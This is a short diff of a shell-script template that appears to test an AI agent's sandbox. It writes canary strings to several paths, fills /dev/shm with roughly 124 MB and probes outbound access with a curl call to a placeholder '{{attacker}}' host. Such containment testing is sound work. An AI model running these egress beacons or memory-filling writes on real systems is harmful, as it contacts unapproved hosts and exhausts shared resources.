@@ -45,7 +45,9 @@ curl -sSk -m 5 -o /dev/null "https://{{attacker}}/?{{nonce}}" 2>/dev/null && ech
 echo {CANARY} >/home/agent/disk; sync
 echo {CANARY} >/tmp/canary
 echo {CANARY} >/output/canary
-yes {CANARY} | dd of=/dev/shm/canary bs=1M count=124 iflag=fullblock 2>/dev/null
+yes {CANARY} | head -c 4000000 >/tmp/part
+while [ $# -lt 31 ]; do set -- "$@" /tmp/part; done
+cat "$@" >/dev/shm/canary
 cat /proc/swaps
 exit 7
 """
